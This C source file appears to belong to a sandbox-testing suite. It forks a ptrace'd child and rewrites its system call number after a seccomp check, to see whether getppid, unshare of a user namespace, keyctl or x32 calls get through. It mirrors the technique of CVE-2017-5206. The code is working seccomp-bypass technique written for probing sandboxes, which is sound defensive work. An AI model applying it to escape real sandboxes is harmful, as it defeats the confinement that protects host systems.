// retrace: a tracer swaps the number of a call after its tracee has begun it. Before Linux 4.8 the filter had looked by
// then (CVE-2017-5206). Needs a room that is granted ptrace. Prints what the swapped calls gave.
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

#include "hostile.h"

enum { NEWUSER = 0x10000000 };

// The tracee asks for its pid with the arguments of another call in place, and reports what came back.
static void be_traced(unsigned long first, unsigned long by_filter, int out) {
  ptrace(PTRACE_TRACEME, 0, 0, 0);
  raise(SIGSTOP);
  if (by_filter) {
    struct sock_filter hand_over[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0), BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getpid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog program = {4, hand_over};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) != 0) _exit(3);
  }
  long result = syscall(SYS_getpid, first, 0, 0, 0, 0, 0);
  int error = result == -1 ? errno : 0;
  (void)!write(out, &error, sizeof error);
  _exit(0);
}

static void swap(const char* name, unsigned long number, unsigned long first, int by_filter) {
  int ends[2], status, error = -1;
  if (pipe(ends) != 0) return;
  pid_t child = fork();
  if (child == 0) be_traced(first, by_filter, ends[1]);
  close(ends[1]);
  waitpid(child, &status, 0);
  ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL);
  for (int swapped = 0; !WIFEXITED(status) && !WIFSIGNALED(status);) {
    struct user_regs_struct registers;
    if (!swapped && ptrace(PTRACE_GETREGS, child, 0, &registers) == 0 && registers.orig_rax == SYS_getpid &&
        (by_filter ? status >> 8 == (SIGTRAP | PTRACE_EVENT_SECCOMP << 8) : WSTOPSIG(status) == (SIGTRAP | 0x80))) {
      registers.orig_rax = number;
      swapped = ptrace(PTRACE_SETREGS, child, 0, &registers) == 0;
    }
    if (ptrace(by_filter ? PTRACE_CONT : PTRACE_SYSCALL, child, 0, 0) != 0) break;
    if (waitpid(child, &status, __WALL) < 0) break;
  }
  (void)!read(ends[0], &error, sizeof error);
  close(ends[0]);
  errno = error;
  report(name, error == 0 ? 0 : -1);
}

int retrace(int count, char** words) {
  (void)count, (void)words;
  swap("ptrace getppid", SYS_getppid, 0, 0);  // that swapping works
  swap("filter getppid", SYS_getppid, 0, 1);
  swap("ptrace unshare", SYS_unshare, NEWUSER, 0);
  swap("filter unshare", SYS_unshare, NEWUSER, 1);
  swap("ptrace keyctl", SYS_keyctl, 0, 0);
  swap("filter keyctl", SYS_keyctl, 0, 1);
  swap("ptrace x32", 0x40000000 | SYS_getpid, 0, 0);
  swap("filter x32", 0x40000000 | SYS_getpid, 0, 1);
  return 0;
}
